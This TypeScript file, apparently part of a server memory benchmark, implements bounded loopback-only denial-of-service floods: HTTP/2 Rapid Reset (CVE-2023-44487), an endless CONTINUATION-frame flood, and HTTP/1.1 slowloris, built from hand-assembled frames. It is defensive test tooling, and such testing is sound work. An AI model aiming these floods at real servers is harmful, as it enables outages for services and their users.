// floods: hostile clients for the memory benchmark, on raw loopback sockets. Each flood is bounded in
// time (durationMs) and in count (maxFrames / connections), reconnects when the server closes a
// connection, and stops by itself.
// - rapidReset: h2c prior knowledge; HEADERS then RST_STREAM(CANCEL) on a new stream, over and over
//   (CVE-2023-44487).
// - continuation: h2c; HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
//   (CVE-2024-27316 class).
// - slowloris: HTTP/1.1 request heads sent a few bytes at a time, never finished.
// Gives counts of frames/connections sent. Must not: send anything anywhere but 127.0.0.1.
import { connect, type Socket } from "node:net";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

function hpackInt(value: number, prefixBits: number, firstByte: number): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([firstByte | value]);
  const out = [firstByte | max];
  let v = value - max;
  while (v >= 128) {
    out.push((v & 0x7f) | 0x80);
    v >>= 7;
  }
  out.push(v);
  return Buffer.from(out);
}

/** A literal header field without indexing, new name (RFC 7541 §6.2.2), no Huffman. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0]), hpackInt(name.length, 7, 0), Buffer.from(name), hpackInt(value.length, 7, 0), Buffer.from(value)]);
}

/** :method GET, :scheme http, :path / (static table), :authority flood.local. */
const REQUEST_BLOCK = Buffer.concat([Buffer.from([0x82, 0x86, 0x84]), Buffer.from([0x01]), hpackInt(11, 7, 0), Buffer.from("flood.local")]);
const SETTINGS = frame(4, 0, 0, Buffer.alloc(0));
const CANCEL = Buffer.from([0, 0, 0, 8]);

export interface FloodOptions {
  readonly port: number;
  readonly connections: number;
  readonly durationMs: number;
  /** Upper bound on frames (or slowloris bytes) sent over the whole flood. */
  readonly maxFrames: number;
}

export interface FloodResult {
  readonly flood: string;
  readonly frames: number;
  readonly connections: number;
}

/** Writes to one connection while `go()` holds; reports what it sent through `sent(n)`. */
type Writer = (socket: Socket, go: () => boolean, sent: (n: number) => void) => Promise<void>;

async function runConnections(name: string, o: FloodOptions, writer: Writer): Promise<FloodResult> {
  const deadline = Date.now() + o.durationMs;
  let frames = 0;
  let opened = 0;
  const budget = (): boolean => Date.now() < deadline && frames < o.maxFrames;
  const worker = async (): Promise<void> => {
    while (budget()) {
      const socket = connect({ port: o.port, host: "127.0.0.1" });
      opened++;
      socket.on("error", () => {});
      socket.resume();
      const up = await new Promise<boolean>((r) => {
        socket.once("connect", () => r(true));
        socket.once("error", () => r(false));
      });
      if (!up) {
        await new Promise((r) => setTimeout(r, 50));
        continue;
      }
      await writer(socket, () => budget() && !socket.destroyed && socket.writable, (n) => {
        frames += n;
      });
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: o.connections }, worker));
  return { flood: name, frames, connections: opened };
}

function writeAndWait(socket: Socket, data: Buffer): Promise<void> {
  return new Promise((resolve) => {
    if (socket.write(data)) {
      resolve();
      return;
    }
    const done = (): void => {
      socket.off("drain", done);
      socket.off("close", done);
      resolve();
    };
    socket.once("drain", done);
    socket.once("close", done);
  });
}

export function rapidReset(o: FloodOptions): Promise<FloodResult> {
  return runConnections("h2-rapid-reset", o, async (socket, go, sent) => {
    await writeAndWait(socket, Buffer.concat([PREFACE, SETTINGS]));
    let id = 1;
    while (go() && id < 0x7fffff00) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 100; i++, id += 2) batch.push(frame(1, 0x4, id, REQUEST_BLOCK), frame(3, 0, id, CANCEL));
      sent(200);
      await writeAndWait(socket, Buffer.concat(batch));
    }
  });
}

export function continuation(o: FloodOptions): Promise<FloodResult> {
  const chunk = Buffer.concat(Array.from({ length: 4 }, (_, i) => literal(`x-flood-${i}`, "v".repeat(1000))));
  return runConnections("h2-continuation", o, async (socket, go, sent) => {
    await writeAndWait(socket, Buffer.concat([PREFACE, SETTINGS, frame(1, 0, 1, REQUEST_BLOCK)]));
    sent(1);
    while (go()) {
      sent(16);
      await writeAndWait(socket, Buffer.concat(Array.from({ length: 16 }, () => frame(9, 0, 1, chunk))));
    }
  });
}

export function slowloris(o: FloodOptions & { readonly intervalMs: number }): Promise<FloodResult> {
  return runConnections("h1-slowloris", o, async (socket, go, sent) => {
    await writeAndWait(socket, Buffer.from("GET / HTTP/1.1\r\nHost: flood.local\r\n"));
    sent(1);
    for (let n = 1; go(); n++) {
      await new Promise((r) => setTimeout(r, o.intervalMs));
      if (!go()) break;
      sent(1);
      await writeAndWait(socket, Buffer.from(`x-${n}: a\r\n`));
    }
  });
}
